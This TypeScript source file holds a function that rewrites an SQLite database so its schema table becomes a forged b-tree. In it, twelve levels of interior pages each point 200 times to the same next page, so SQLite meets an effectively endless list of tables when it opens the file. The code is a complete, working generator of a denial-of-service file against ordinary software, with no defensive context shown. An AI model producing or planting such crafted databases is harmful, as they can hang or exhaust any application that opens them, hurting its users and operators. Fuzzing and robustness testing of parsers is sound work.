import { readFileSync, writeFileSync } from 'node:fs';

/** How often each page of the forged tree leads to the next, and how many such pages there are. */
const FAN = 200;
const LEVELS = 12;

/** A row of `sqlite_schema` that SQLite takes as often as it comes: an index that it made by itself. */
const isAutomaticIndex = (cell: Buffer): boolean => cell.includes('sqlite_autoindex_entry_1');

/**
 * Makes of an archive one whose list of tables never ends: pages that lead to the same next page over and over, 200 to
 * the power of 12 rows. SQLite finds each step in order, and reads the list before any statement is run.
 */
export function forgeEndlessSchema(file: string): void {
  const bytes = readFileSync(file);
  const size = bytes.readUInt16BE(16);
  const first = bytes.subarray(0, size);
  const cells = first.readUInt16BE(103);
  const offsets = Array.from({ length: cells }, (_, at) => first.readUInt16BE(108 + 2 * at));
  const page = () => Buffer.alloc(size);

  const leaf = (of: readonly number[]): Buffer => {
    const made = Buffer.from(first);
    made.fill(0, 0, 108 + 2 * cells);
    made.writeUInt8(0x0d, 0);
    made.writeUInt16BE(of.length, 3);
    made.writeUInt16BE(Math.min(...of), 5);
    for (const [at, offset] of of.entries()) made.writeUInt16BE(offset, 8 + 2 * at);
    return made;
  };
  const interior = (made: Buffer, start: number, children: readonly number[]): Buffer => {
    made.writeUInt8(0x05, start);
    made.writeUInt16BE(children.length - 1, start + 3);
    made.writeUInt16BE(size - 5 * children.length, start + 5);
    made.writeUInt32BE(children.at(-1) ?? 0, start + 8);
    for (const [at, child] of children.slice(0, -1).entries()) {
      const offset = size - 5 * (at + 1);
      made.writeUInt16BE(offset, start + 12 + 2 * at);
      made.writeUInt32BE(child, offset);
      made.writeUInt8(100, offset + 4);
    }
    return made;
  };

  const old = bytes.length / size;
  const index = offsets.find((offset) => isAutomaticIndex(first.subarray(offset, offset + 80)));
  if (index === undefined) throw new Error('There is no such index on the first page.');
  const [tables, row, levels] = [old + 1, old + 2, old + 3];
  const pages = Array.from({ length: LEVELS }, (_, level) => {
    const next = level === LEVELS - 1 ? row : levels + level + 1;
    return interior(page(), 0, Array(FAN).fill(next));
  });
  const root = Buffer.from(first);
  root.fill(0, 100);
  interior(root, 100, [tables, levels]);
  root.writeUInt32BE(old + 2 + LEVELS, 28);
  const forged = [root, bytes.subarray(size), leaf(offsets), leaf([index]), ...pages];
  writeFileSync(file, Buffer.concat(forged));
}
